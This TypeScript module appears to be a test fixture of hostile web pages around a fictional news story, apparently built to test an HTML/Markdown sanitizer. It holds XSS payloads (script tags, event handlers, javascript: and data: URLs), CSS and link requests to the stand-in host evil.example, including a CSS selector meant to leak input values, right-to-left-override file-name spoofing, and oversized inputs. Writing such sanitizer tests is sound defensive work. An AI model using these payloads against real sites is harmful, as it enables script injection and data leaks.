/** A page that tries to do something, as bytes. */
export interface HostilePage {
  readonly name: string;
  readonly bytes: Uint8Array;
}

const said =
  "The President of Valdoria said that the harbour stays open. The Prime Minister of Merania replied that he would visit.";

function html(name: string, head: string, body: string): HostilePage {
  return {
    name: `${name}.html`,
    bytes: new TextEncoder().encode(
      `<!doctype html><html lang="en"><head><title>Talks: ${name}</title>${head}</head><body><article><h1>Talks: ${name}</h1><p>${said}</p>${body}<p>${said}</p></article></body></html>`,
    ),
  };
}

const paragraphs = Array.from(
  { length: 150 },
  (_none, number) => `<p>Point ${number} of the talks in Selmont. ${said}</p>`,
).join("");

/** Pages that try to run scripts, to ask other hosts, to be endless, to reorder what stands around them. */
export const hostilePages: readonly HostilePage[] = [
  html(
    "script",
    "<script>globalThis.pwned = 'head'</script>",
    `<script>globalThis.pwned = "body"</script><img src=x onerror="globalThis.pwned='img'">
     <iframe srcdoc="<script>parent.pwned='frame'</script>"></iframe><body onload="globalThis.pwned='load'">
     <details open ontoggle="globalThis.pwned='toggle'"><summary>${said}</summary></details>`,
  ),
  html(
    "svg",
    "",
    `<svg xmlns="http://www.w3.org/2000/svg" onload="globalThis.pwned='svg'"><script>globalThis.pwned='svg script'</script>
     <a href="javascript:globalThis.pwned='svg link'"><text y="20">${said}</text></a>
     <foreignObject><iframe src="https://evil.example/frame"></iframe></foreignObject>
     <image href="https://evil.example/pixel.png"/><use href="data:image/svg+xml,<svg onload=alert(1)>"/></svg>`,
  ),
  html(
    "style",
    `<style>@import "https://evil.example/x.css"; body { background: url(https://evil.example/bg.png) }
     input[value^=a] { background: url(https://evil.example/leak?a) } @font-face { font-family: x; src: url(https://evil.example/f.woff) }</style>
     <link rel="stylesheet" href="https://evil.example/y.css"><link rel="prefetch" href="https://evil.example/z">
     <meta http-equiv="refresh" content="0;url=https://evil.example/gone"><base href="https://evil.example/">`,
    `<div style="position:fixed;inset:0;background:url(https://evil.example/over.png);z-index:99999">${said}</div>`,
  ),
  html(
    "links",
    `<link rel="canonical" href="javascript:globalThis.pwned='canonical'"><meta property="og:url" content="javascript:globalThis.pwned='og'">`,
    `<a href="javascript:globalThis.pwned='link'">${said}</a><form action="https://evil.example/form"><button>Go</button></form>
     <a href="data:text/html,<script>alert(1)</script>">${said}</a><math href="javascript:globalThis.pwned='math'"><mtext>${said}</mtext></math>`,
  ),
  {
    name: "front-matter.md",
    bytes: new TextEncoder().encode(
      `---\ntitle: "<img src=x onerror=globalThis.pwned='title'>"\nsource: "javascript:globalThis.pwned='source'"\noutlet: "<script>globalThis.pwned='outlet'</script>"\nauthor: "</title><script>globalThis.pwned='author'</script>"\npublished: 2024-06-01\n---\n\nSelmont. ${said}\n\n[link](javascript:globalThis.pwned='md') ![x](https://evil.example/p.png) <img src=x onerror=globalThis.pwned=1>\n`,
    ),
  },
  {
    name: "names \u202egnp.evil\u202c.md",
    bytes: new TextEncoder().encode(
      `---\ntitle: "Talks \u202eeslaf era ereht\u202c \u2067end"\noutlet: "The \u202ereiruoC\u202c"\nauthor: "Ana \u202elleB"\npublished: 2024-06-02\n---\n\nSelmont. ${said} “\u202eThe harbour is closed,” the President of Valdoria said. \u2066\u2066\u2066\n\n“السلام عليكم”, said the President of Valdoria. ${said}\n`,
    ),
  },
  html("huge", "", paragraphs + "<div>".repeat(5000) + said + "</div>".repeat(5000)),
  html("wide", "", `<p>${"a".repeat(200_000)}</p><p>${"“".repeat(3000)}</p>`),
  {
    name: "zalgo.txt",
    bytes: new TextEncoder().encode(
      `Talks ${"h\u0301\u0327\u0338\u0489".repeat(500)}\n\nSelmont, 3 June 2024. ${said}\n`,
    ),
  },
];
